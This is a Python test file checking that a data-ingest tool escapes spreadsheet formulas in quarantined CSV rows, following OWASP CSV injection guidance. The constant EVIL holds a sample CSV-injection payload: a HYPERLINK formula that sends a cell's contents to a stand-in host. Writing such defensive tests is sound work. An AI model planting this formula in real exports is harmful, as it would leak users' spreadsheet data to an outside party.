"""Quarantine files are opened in spreadsheets to see what to fix: a formula in a rejected row stays text (#9.6).

The rule is OWASP's CSV injection guidance (ASVS 1.2.10): a cell starting with = + - @, tab or
carriage return is prefixed with a single quote.
"""

from __future__ import annotations

import csv

from concord.ingest.engine.run import ingest_file
from concord.lake.store import Lake

from .helpers import csv_text, row

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def test_a_rejected_row_with_a_formula_is_quarantined_as_text(tmp_path):
    # given a row rejected for its wait time, whose agent and wait cells are formulas
    bad = row(2, wait="=1+2", agent=f'"{EVIL.replace(chr(34), chr(34) * 2)}"')
    path = tmp_path / "in.csv"
    path.write_text(csv_text(row(1), bad, row(3, wait="-5")))
    quarantine = tmp_path / "q.csv"
    result = ingest_file(path, "canonical-csv", Lake(tmp_path / "lake"), quarantine_path=quarantine)
    assert result.rejected >= 1
    with quarantine.open(newline="", encoding="utf-8") as fh:
        rejected = {r["external_id"]: r for r in csv.DictReader(fh)}
    assert rejected["T2"]["agent"] == "'" + EVIL
    assert rejected["T2"]["wait_seconds"] == "'=1+2"
    # every cell of the file is safe to open, whatever column it is in
    for record in rejected.values():
        for value in record.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
